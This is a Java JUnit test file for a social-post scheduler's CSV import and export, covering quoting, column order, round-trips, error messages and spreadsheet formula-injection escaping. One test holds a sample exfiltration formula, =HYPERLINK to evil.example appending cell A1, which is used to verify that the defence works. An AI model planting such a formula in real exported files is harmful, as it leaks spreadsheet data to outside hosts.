package com.ailsocialautomation.command;

import com.ailsocialautomation.UserError;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** The import file as people's spreadsheets write it, and the refusals of what is not one. */
class CsvPostsTest {
    private static List<CsvPosts.Row> read(String text) {
        return CsvPosts.read(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String refusal(byte[] bytes) {
        return assertThrows(UserError.class, () -> CsvPosts.read(bytes)).getMessage();
    }

    @Test
    void quotedFieldsKeepCommasQuotesAndLineBreaksAndEachRowKnowsTheLineItStartsOn() {
        List<CsvPosts.Row> rows = read("\uFEFFWhen,To,Text,Media,Alt\r\n"
                + "2027-01-05 09:00,\"x,bluesky\",\"Doors open, come in!\r\nSecond line with \"\"quotes\"\"\",,\r\n"
                + "\r\n"
                + "tomorrow 9am,mastodon,Plain,https://example.com/a.png https://example.com/b.png,\"First\nSecond\n\"\r\n");
        assertEquals(2, rows.size());
        assertEquals(new CsvPosts.Row(2, "2027-01-05 09:00", "x,bluesky", "Doors open, come in!\nSecond line with \"quotes\"",
                List.of(), List.of(), ""), rows.get(0));
        assertEquals(5, rows.get(1).line(), "the quoted line break and the empty line count");
        assertEquals(List.of("https://example.com/a.png", "https://example.com/b.png"), rows.get(1).media());
        assertEquals(List.of("First", "Second"), rows.get(1).alts());
    }

    @Test
    void columnsMayComeInAnyOrderWithAnOptionsColumn() {
        CsvPosts.Row row = read("text,when,alt,media,to,options\nHi,tomorrow 9am,,,x,privacy:unlisted\n").get(0);
        assertEquals(List.of("Hi", "tomorrow 9am", "x", "privacy:unlisted"), List.of(row.text(), row.when(), row.to(), row.options()));
    }

    @Test
    void whatIsWrittenIsReadBackAsItWas() {
        List<CsvPosts.Row> rows = List.of(
                new CsvPosts.Row(2, "2027-01-05T09:00+01:00", "a3f9,b7k2", "Line one,\n\"quoted\"\nline three", List.of(), List.of(), "title:\"Spring \\\"26\\\"\""),
                new CsvPosts.Row(3, "2027-01-06T09:00+01:00", "", "x", List.of("https://example.com/a.png", "https://example.com/b.png"),
                        List.of("An A", "A B"), ""));
        List<CsvPosts.Row> back = CsvPosts.read(CsvPosts.write(rows));
        assertEquals(rows.get(0), back.get(0));
        assertEquals(rows.get(1), new CsvPosts.Row(3, back.get(1).when(), back.get(1).to(), back.get(1).text(),
                back.get(1).media(), back.get(1).alts(), back.get(1).options()));
        assertEquals(5, back.get(1).line(), "after a text of three lines");
        assertTrue(new String(CsvPosts.write(rows.subList(1, 2)), StandardCharsets.UTF_8).startsWith("when,to,text,media,alt\r\n"),
                "no options column when no row has options");
    }

    @Test
    void aCellASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndReadBackAsItWas() {
        String link = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
        List<CsvPosts.Row> rows = List.of(
                new CsvPosts.Row(2, "2027-01-05T09:00+01:00", "", link, List.of(), List.of(), ""),
                new CsvPosts.Row(3, "2027-01-06T09:00+01:00", "", "'=x", List.of(), List.of("@alt", "-1"), ""),
                new CsvPosts.Row(5, "2027-01-07T09:00+01:00", "", "'plain quote", List.of(), List.of("+1"), ""));
        byte[] written = CsvPosts.write(rows);
        assertEquals(rows, CsvPosts.read(written));
        List<String> lines = new String(written, StandardCharsets.UTF_8).lines().toList();
        assertEquals("2027-01-05T09:00+01:00,,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",,", lines.get(1));
        assertEquals("2027-01-06T09:00+01:00,,''=x,,\"'@alt", lines.get(2), "a quote before = gets one more");
        assertEquals("2027-01-07T09:00+01:00,,'plain quote,,'+1", lines.get(4), "a quote before text stays as it is");
        assertEquals("=SUM(A1)", read("when,to,text,media,alt\ntomorrow,x,'=SUM(A1),,\n").get(0).text());
    }

    @Test
    void aFileThatIsNotTheFormatIsRefusedInOneLineThatSaysWhatToDo() {
        assertTrue(refusal(new byte[] {'w', 'h', 'e', 'n', 0, 1, 2}).startsWith("That file holds binary data"));
        assertTrue(refusal(new byte[] {'w', 'h', (byte) 0xE9, 'n', '\n'}).startsWith("That file is not UTF-8 text"));
        assertTrue(refusal(("when,to,text,media,alt\n" + "x".repeat(CsvPosts.MAX_BYTES)).getBytes(StandardCharsets.UTF_8))
                .contains("an import takes at most 1,048,576"));
        assertEquals("The header lacks media, alt; the first line must be when,to,text,media,alt.",
                refusal("when,to,text\ntomorrow,x,Hi\n".getBytes(StandardCharsets.UTF_8)));
        assertTrue(refusal("tomorrow 9am,x,Hi,,\n".getBytes(StandardCharsets.UTF_8))
                .startsWith("The header names an unknown column 'tomorrow 9am'"), "a missing header");
        assertTrue(refusal("when,to,text,media,alt,colour\n".getBytes(StandardCharsets.UTF_8)).contains("unknown column 'colour'"));
        assertTrue(refusal("when,to,text,media,alt\ntomorrow,x,\"open\n".getBytes(StandardCharsets.UTF_8))
                .startsWith("That file is not valid CSV"));
        assertEquals("Line 3 has 3 fields, the header 5; quote a field that holds a comma.",
                refusal("when,to,text,media,alt\ntomorrow,x,Hi,,\ntomorrow,x,Hi\n".getBytes(StandardCharsets.UTF_8)));
        assertTrue(refusal(("when,to,text,media,alt\n" + "tomorrow,x,Hi,,\n".repeat(CsvPosts.MAX_ROWS + 1))
                .getBytes(StandardCharsets.UTF_8)).startsWith("That file has more than 500 posts"));
        assertTrue(refusal(("when,to,text,media,alt\n" + "x".repeat(101) + ",x,Hi,,\n").getBytes(StandardCharsets.UTF_8))
                .startsWith("Line 2: the when field is 101 characters"));
        assertTrue(refusal("when,to,text,media,alt\n".getBytes(StandardCharsets.UTF_8)).contains("no posts"));
    }
}
